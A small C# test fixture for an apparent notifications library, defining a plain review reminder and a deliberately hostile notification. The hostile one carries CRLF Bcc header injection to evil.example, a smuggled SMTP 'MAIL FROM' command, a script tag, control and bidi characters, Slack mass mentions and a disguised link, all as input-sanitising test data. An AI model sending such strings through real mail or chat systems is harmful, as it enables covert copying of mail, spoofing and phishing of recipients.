using Weir.Core.Notifications;

namespace Weir.Notifications.Tests;

/// <summary>Messages to send.</summary>
internal static class Letter
{
    public static Notification Plain { get; } = new("review/orders", "A contract to review: orders", "Hello,\n\nplease look at it.\n", ["dev-team@example.com"])
    {
        Facts = [new("contract", "orders")],
        Links = [new("The contract", new Uri("https://git.example.com/contracts/orders.yml"))],
    };

    /// <summary>What somebody would write who wants more than a reminder sent.</summary>
    public static Notification Hostile { get; } = new(
        "review/\r\nBcc: a@evil.example", "orders\r\nBcc: victim@evil.example\r\n\r\n<script>\u202Etxt\u0000 <!channel>",
        "Hello\r\n.\r\nMAIL FROM:<a@evil.example>\r\n\u001b[2J``` <!channel> & <https://evil.example|click>\n", ["dev-team@example.com"]);
}
